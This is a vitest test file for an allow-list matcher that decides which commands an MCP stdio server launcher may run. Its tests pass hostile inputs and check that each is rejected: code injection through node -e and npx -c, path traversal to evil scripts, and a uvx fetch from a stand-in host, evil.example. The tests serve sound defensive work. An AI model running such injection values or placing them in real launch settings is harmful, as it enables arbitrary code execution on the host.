import { describe, expect, it } from 'vitest';
import { CommandAllowListError, compileCommandAllowList, matchCommandLine } from './command-allow-list.js';

const allows = (entries: string[], command: string, ...args: string[]) =>
  matchCommandLine(compileCommandAllowList(entries), command, args).allowed;

describe('MCP_STDIO_ALLOWED_COMMANDS entries', () => {
  it('a bare command allows that command with no arguments at all', () => {
    expect(allows(['npx'], 'npx')).toBe(true);
    expect(allows(['npx'], 'npx', '-y', 'anything')).toBe(false);
    expect(allows(['npx'], '/tmp/evil/npx')).toBe(false);
  });

  it('literal tokens match exactly, in order, and nothing more unless the entry ends with **', () => {
    const entry = ['node /srv/mcp/server.js --stdio'];
    expect(allows(entry, 'node', '/srv/mcp/server.js', '--stdio')).toBe(true);
    expect(allows(entry, 'node', '/srv/mcp/server.js')).toBe(false);
    expect(allows(entry, 'node', '/srv/mcp/server.js', '--stdio', '--inspect')).toBe(false);
    expect(allows(entry, 'node', '--stdio', '/srv/mcp/server.js')).toBe(false);
    expect(allows(['node /srv/mcp/server.js **'], 'node', '/srv/mcp/server.js', '--port', '9 9')).toBe(true);
    expect(allows(['node /srv/mcp/server.js **'], 'node', '/srv/mcp/server.js')).toBe(true);
    expect(allows(['node /srv/mcp/server.js **'], 'node', '-e', 'x')).toBe(false);
  });

  it('the attacks of finding 4 do not match realistic entries', () => {
    const entries = ['npx -y @modelcontextprotocol/server-*', 'node /srv/mcp/*.js', 'uvx mcp-server-*'];
    expect(allows(entries, 'npx', '-y', '@modelcontextprotocol/server-everything')).toBe(true);
    expect(allows(entries, 'node', '/srv/mcp/memory.js')).toBe(true);
    expect(allows(entries, 'uvx', 'mcp-server-fetch')).toBe(true);
    expect(allows(entries, 'node', '-e', "require('child_process').execSync('id')")).toBe(false);
    expect(allows(entries, 'npx', '-c', 'touch /tmp/pwned')).toBe(false);
    expect(allows(entries, 'npx', '-y', '@modelcontextprotocol/server-x@file:/tmp/evil')).toBe(false);
    expect(allows(entries, 'npx', '-y', '@modelcontextprotocol/server-x/../../evil')).toBe(false);
    expect(allows(entries, 'npx', '-y', '@modelcontextprotocol/server-x', '-c', 'id')).toBe(false);
    expect(allows(entries, 'node', '/srv/mcp/../../tmp/evil.js')).toBe(false);
    expect(allows(entries, 'node', '/srv/mcp/sub/evil.js')).toBe(false);
    expect(allows(entries, 'uvx', '--from', 'git+https://evil.example/x', 'mcp-server-x')).toBe(false);
    expect(allows(entries, 'uvx', 'mcp-server-x git+https://evil')).toBe(false);
  });

  it('a * that starts a token does not match an option, and never an empty run', () => {
    expect(allows(['python *'], 'python', 'server.py')).toBe(true);
    expect(allows(['python *'], 'python', '-cimport os')).toBe(false);
    expect(allows(['python *'], 'python', '-cprint(1)')).toBe(false);
    expect(allows(['node *'], 'node', '--eval=process.exit(1)')).toBe(false);
    expect(allows(['node --*'], 'node', '--version')).toBe(true);
    expect(allows(['uvx mcp-server-*'], 'uvx', 'mcp-server-')).toBe(false);
    expect(allows(['* --stdio'], 'anything', '--stdio')).toBe(true);
    expect(allows(['* --stdio'], '/bin/sh', '--stdio')).toBe(false);
  });

  it('regular-expression characters in entries are literal', () => {
    expect(allows(['node a.js'], 'node', 'abjs')).toBe(false);
    expect(allows(['node (x|y)'], 'node', 'x')).toBe(false);
    expect(allows(['node (x|y)'], 'node', '(x|y)')).toBe(true);
  });

  it('says which token of which entry failed', () => {
    const list = compileCommandAllowList(['npx -y @modelcontextprotocol/server-*', 'node /srv/mcp/server.js']);
    const result = matchCommandLine(list, 'npx', ['-c', 'id']);
    expect(result).toEqual({
      allowed: false,
      mismatches: [
        { entry: 'npx -y @modelcontextprotocol/server-*', position: 1, reason: 'argument 1 "-c" does not match "-y"' },
        { entry: 'node /srv/mcp/server.js', position: 0, reason: 'the command "npx" does not match "node"' },
      ],
    });
    expect(matchCommandLine(list, 'node', ['/srv/mcp/server.js', 'x'])).toMatchObject({
      mismatches: [{}, { position: 2, reason: expect.stringMatching(/one too many/) }],
    });
  });

  it('refuses bad entries at load, naming each', () => {
    let caught: unknown;
    try {
      compileCommandAllowList(['node', '** x', 'node ** x', 'node a**', 'npx **']);
    } catch (error) {
      caught = error;
    }
    expect(caught).toBeInstanceOf(CommandAllowListError);
    expect((caught as CommandAllowListError).problems.map((p) => p.index)).toEqual([1, 2, 3]);
  });
});
